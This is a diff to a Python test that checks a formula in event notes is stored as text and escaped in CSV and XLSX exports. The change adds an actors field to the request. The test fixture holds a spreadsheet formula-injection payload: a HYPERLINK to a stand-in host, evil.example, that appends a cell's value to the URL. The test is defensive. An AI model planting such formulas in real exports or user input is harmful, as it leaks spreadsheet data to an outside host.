@@ -477,7 +477,14 @@ def test_a_formula_in_notes_is_stored_as_text_and_escaped_in_csv_and_xlsx_export
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     response = world.curator.post(
         EVENTS,
-        json.dumps(valid_event(world, notes=formula, citations=[{"source": Source.objects.get().pk}])),
+        json.dumps(
+            valid_event(
+                world,
+                notes=formula,
+                actors=[{"actor": Actor.objects.get().pk, "role": "actor1"}],
+                citations=[{"source": Source.objects.get().pk}],
+            )
+        ),
         content_type="application/json",
     )
     assert response.status_code == 201, response.content
